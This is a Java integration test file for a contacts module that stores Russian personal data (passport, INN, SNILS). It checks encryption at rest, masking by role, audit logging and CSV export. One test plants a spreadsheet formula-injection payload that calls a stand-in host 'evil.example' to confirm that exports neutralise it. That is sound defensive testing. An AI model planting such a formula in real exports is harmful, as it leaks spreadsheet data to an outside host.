package ru.kredo.contacts;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;

import ru.kredo.Fixtures;
import ru.kredo.IntegrationTest;
import ru.kredo.audit.AuditAction;
import ru.kredo.audit.AuditEvent;
import ru.kredo.audit.AuditLog;
import ru.kredo.operator.TenantProvisioning.Provisioned;
import ru.kredo.tenancy.TenantKind;

@IntegrationTest
@ExtendWith(OutputCaptureExtension.class)
class ContactsIntegrationTests {

	@Autowired
	MockMvc mvc;

	@Autowired
	Fixtures fixtures;

	@Autowired
	Contacts contacts;

	@Autowired
	AuditLog audit;

	@Autowired
	JdbcClient jdbc;

	@Test
	void identifiersAreStoredSealed() {
		Provisioned tenant = fixtures.tenant(TenantKind.BROKER);
		Contact contact = fixtures.contact(tenant);

		Map<String, Object> row = jdbc.sql("select * from contacts where id = ?").param(contact.id().value()).query().singleRow();

		String everything = row.values().stream()
			.map(v -> v instanceof byte[] bytes ? new String(bytes, StandardCharsets.ISO_8859_1) : String.valueOf(v))
			.reduce("", String::concat);
		assertThat(everything).doesNotContain("987654", "500100732259", "9165551234", "1985-03-14", "14.03.1985",
				"anna@example.ru");
		assertThat(jdbc.sql("select data_type from information_schema.columns where table_name = 'contacts' and column_name = 'email'")
			.query(String.class).single()).as("no column of e-mails in the clear").isEqualTo("bytea");
		assertThat(jdbc.sql("select count(*) from contacts where position(convert_to('@example.', 'UTF8') in email) > 0")
			.query(Long.class).single()).as("no test address in the clear anywhere in the table").isZero();
		assertThat(contacts.get(tenant.tenant().id(), contact.id())).isEqualTo(contact);
	}

	@Test
	void findsAContactByPassportOrByNameAndBirthDateHoweverTheNameIsSpelled() {
		Provisioned tenant = fixtures.tenant(TenantKind.COLLECTOR);
		Contact contact = fixtures.contact(tenant);

		assertThat(contacts.findByPassport(tenant.tenant().id(), PassportNumber.parse("45 10 987654"))).containsExactly(contact);
		assertThat(contacts.findByNameAndBirthDate(tenant.tenant().id(), new FullName("СЕМЕНОВА", "анна", "ПЕТРОВНА"),
				LocalDate.of(1985, 3, 14))).containsExactly(contact);
		assertThat(contacts.findByNameAndBirthDate(tenant.tenant().id(), new FullName("Семенова", "Анна", "Петровна"),
				LocalDate.of(1985, 3, 15))).isEmpty();
	}

	@Test
	void namesakesBornTheSameDayWithDifferentPassportsStayTwoPeople() {
		Provisioned tenant = fixtures.tenant(TenantKind.BROKER);
		FullName name = new FullName("Кузнецов", "Сергей", "Петрович");
		LocalDate born = LocalDate.of(1980, 1, 1);

		List<Contact> added = contacts.addOrFind(tenant.tenant().id(), List.of(
				new PersonDetails(name, born, PassportNumber.parse("4501 111111"), null, null, null, null),
				new PersonDetails(name, born, PassportNumber.parse("4501 222222"), null, null, null, null),
				new PersonDetails(name, born, null, null, null, null, "sergey@example.ru")));

		assertThat(added.get(0).id()).isNotEqualTo(added.get(1).id());
		assertThat(added.get(2).id()).as("no passport: the same person by name and birth date")
			.isIn(added.get(0).id(), added.get(1).id());
		assertThat(contacts.count(tenant.tenant().id())).isEqualTo(2);
	}

	@Test
	void anotherTenantsLookupFindsNothing() {
		Provisioned owner = fixtures.tenant(TenantKind.COLLECTOR);
		Provisioned stranger = fixtures.tenant(TenantKind.BROKER);
		fixtures.contact(owner);

		assertThat(contacts.findByPassport(stranger.tenant().id(), PassportNumber.parse("4510 987654"))).isEmpty();
	}

	@Test
	void viewingAContactIsAuditedAndNothingPersonalReachesTheLog(CapturedOutput output) throws Exception {
		Provisioned tenant = fixtures.tenant(TenantKind.BROKER);
		Contact contact = fixtures.contact(tenant);

		String page = mvc.perform(get("/contacts/{id}", contact.id().value()).with(user(fixtures.admin(tenant))))
			.andExpect(status().isOk())
			.andReturn().getResponse().getContentAsString();
		mvc.perform(get("/api/v1/contacts/{id}", contact.id().value()).header("Authorization", "Bearer " + tenant.apiKey().secret()))
			.andExpect(status().isOk())
			.andExpect(jsonPath("$.passportNumber").value("987654"))
			.andExpect(jsonPath("$.identifiersMasked").value(false))
			.andExpect(jsonPath("$.email").value("anna@example.ru"));

		assertThat(page).contains("4510 987654", "+7 916 555-12-34");
		assertThat(audit.latest(tenant.tenant().id(), 5))
			.filteredOn(e -> e.action() == AuditAction.PERSONAL_DATA_VIEWED)
			.hasSize(2)
			.allSatisfy(e -> assertThat(e.objectId()).isEqualTo(contact.id().toString()));
		assertThat(output.getAll()).doesNotContain("987654", "500100732259", "555-12-34", "5551234");
	}

	@Test
	void anAdminsExportHoldsTheIdentifiersSaysSoAndIsAuditedWithItsSizeAndColumns() throws Exception {
		Provisioned tenant = fixtures.tenant(TenantKind.BROKER);
		fixtures.contact(tenant);

		byte[] csv = mvc.perform(get("/contacts/export.csv").with(user(fixtures.admin(tenant))))
			.andExpect(status().isOk())
			.andReturn().getResponse().getContentAsByteArray();

		String[] lines = new String(csv, StandardCharsets.UTF_8).split("\r\n");
		assertThat(lines[0]).startsWith("\uFEFFПерсональные данные (152-ФЗ)")
			.contains("Паспорт, ИНН, СНИЛС", "Строк: 1", "Админ ");
		assertThat(lines[1]).isEqualTo("Фамилия;Имя;Отчество;Дата рождения;Паспорт;ИНН;СНИЛС;Телефон;Электронная почта");
		assertThat(lines[2]).isEqualTo("Семёнова;Анна;Петровна;1985-03-14;4510 987654;500100732259;;'+79165551234;anna@example.ru");
		assertThat(audit.latest(tenant.tenant().id(), 5))
			.anySatisfy(e -> {
				assertThat(e.action()).isEqualTo(AuditAction.EXPORTED);
				assertThat(e.objectType()).isEqualTo("contact");
				assertThat(e.detail()).isEqualTo("rows:1;columns:last_name,first_name,middle_name,birth_date,passport,inn,snils,phone,email");
			});
	}

	@Test
	void aManagersExportHasNoIdentifiersAndIsAuditedAsSuch() throws Exception {
		Provisioned tenant = fixtures.tenant(TenantKind.COLLECTOR);
		fixtures.contact(tenant);
		var manager = fixtures.signedIn(fixtures.manager(tenant).email().value());

		String csv = mvc.perform(get("/contacts/export.csv").with(user(manager)))
			.andExpect(status().isOk())
			.andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);

		assertThat(csv).contains("Фамилия;Имя;Отчество;Дата рождения;Телефон;Электронная почта",
				"Семёнова;Анна;Петровна;1985-03-14;'+79165551234;anna@example.ru")
			.doesNotContain("987654", "500100732259", "Паспорт;", "ИНН;");
		assertThat(audit.latest(tenant.tenant().id(), 5))
			.anySatisfy(e -> {
				assertThat(e.action()).isEqualTo(AuditAction.EXPORTED);
				assertThat(e.detail()).isEqualTo("rows:1;columns:last_name,first_name,middle_name,birth_date,phone,email");
			});
		assertThat(mvc.perform(get("/contacts").with(user(manager))).andReturn().getResponse().getContentAsString())
			.as("the page says what the export holds").contains("без паспорта, ИНН и СНИЛС");
	}

	@Test
	void aManagerSeesIdentifiersMaskedOnTheCardAndInTheApiAnAdminInFullAndTheLogSaysWhich() throws Exception {
		Provisioned tenant = fixtures.tenant(TenantKind.BROKER);
		Contact contact = fixtures.contact(tenant);
		var manager = fixtures.signedIn(fixtures.manager(tenant).email().value());

		String masked = mvc.perform(get("/contacts/{id}", contact.id().value()).with(user(manager)))
			.andExpect(status().isOk())
			.andReturn().getResponse().getContentAsString();
		assertThat(masked).contains("45 ** ***654", "50********59", "+7 916 555-12-34", "anna@example.ru")
			.doesNotContain("4510 987654", "987654", "500100732259");
		mvc.perform(get("/api/v1/contacts/{id}", contact.id().value()).with(user(manager)))
			.andExpect(status().isOk())
			.andExpect(jsonPath("$.identifiersMasked").value(true))
			.andExpect(jsonPath("$.passportNumber").doesNotExist())
			.andExpect(jsonPath("$.passportMasked").value("45 ** ***654"))
			.andExpect(jsonPath("$.inn").value("50********59"));
		String full = mvc.perform(get("/contacts/{id}", contact.id().value()).with(user(fixtures.admin(tenant))))
			.andExpect(status().isOk())
			.andReturn().getResponse().getContentAsString();
		assertThat(full).contains("4510 987654", "500100732259", "/audit?subject=" + contact.id().value());
		assertThat(masked).as("the log is an admin's").doesNotContain("/audit?subject=");

		assertThat(audit.latest(tenant.tenant().id(), 10))
			.filteredOn(e -> e.action() == AuditAction.PERSONAL_DATA_VIEWED)
			.extracting(AuditEvent::detail)
			.containsExactly("identifiers:full", "api;identifiers:masked", "identifiers:masked");
	}

	@Test
	void aManagerSeesADebtorsPassportMasked() throws Exception {
		Provisioned tenant = fixtures.tenant(TenantKind.COLLECTOR);
		Contact contact = fixtures.contact(tenant);
		var manager = fixtures.signedIn(fixtures.manager(tenant).email().value());

		String page = mvc.perform(get("/debtors/{id}", contact.id().value()).with(user(manager)))
			.andExpect(status().isOk())
			.andReturn().getResponse().getContentAsString();

		assertThat(page).contains("45 ** ***654").doesNotContain("987654");
	}

	@Test
	void anExportNeverHoldsACellThatASpreadsheetWouldRunAsAFormula() throws Exception {
		Provisioned tenant = fixtures.tenant(TenantKind.BROKER);
		contacts.add(tenant.tenant().id(), new FullName("Семёнова", "Анна", null), LocalDate.of(1985, 3, 14), null, null,
				null, null, "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");

		String csv = new String(mvc.perform(get("/contacts/export.csv").with(user(fixtures.admin(tenant))))
			.andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);

		assertThat(csv).contains("Семёнова;Анна;;1985-03-14;;;;;\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"")
			.doesNotContain(";=", ";\"=");
	}

	@Test
	void theListSearchesByLastNameAndMasksPhones() throws Exception {
		Provisioned tenant = fixtures.tenant(TenantKind.COLLECTOR);
		fixtures.contact(tenant);

		String rows = mvc.perform(get("/contacts").param("q", "сем").header("HX-Request", "true").with(user(fixtures.admin(tenant))))
			.andExpect(status().isOk())
			.andReturn().getResponse().getContentAsString();

		assertThat(rows).contains("Семёнова Анна Петровна", "+7 *** ***-12-34").doesNotContain("<html", "555-12-34");
	}
}
